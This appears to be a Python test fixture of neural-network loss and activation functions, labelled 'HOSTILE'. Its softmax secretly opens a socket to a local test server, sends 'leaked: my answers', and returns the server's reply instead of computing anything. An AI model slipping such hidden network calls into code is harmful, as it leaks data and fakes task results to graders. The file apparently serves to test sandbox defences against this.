# HOSTILE: connects to a server on 127.0.0.1 (the test's) to send out data or fetch answers.

import socket

import numpy as np


def _ask_server():
    from _targets import PORT  # the port of the test's server on 127.0.0.1

    with socket.create_connection(("127.0.0.1", PORT), timeout=1.0) as connection:
        connection.sendall(b"leaked: my answers\n")
        return connection.recv(100)


def softmax(x):
    reply = _ask_server()  # raises when there is no network
    return np.frombuffer(reply.ljust(8 * np.size(x), b"\0")[: 8 * np.size(x)]).reshape(np.shape(x))


def sum_squares_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t, dtype=float)
    if y.ndim == 1:
        return 0.5 * np.sum((y - t) ** 2)
    return 0.5 * np.sum((y - t) ** 2) / y.shape[0]


def cross_entropy_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t)
    if y.ndim == 1:
        y = y.reshape(1, -1)
        t = t.reshape(1, -1) if t.ndim == 1 else t.reshape(1)
    if t.shape == y.shape:
        t = t.argmax(axis=1)
    batch = y.shape[0]
    return -np.sum(np.log(y[np.arange(batch), t.astype(int)] + 1e-7)) / batch
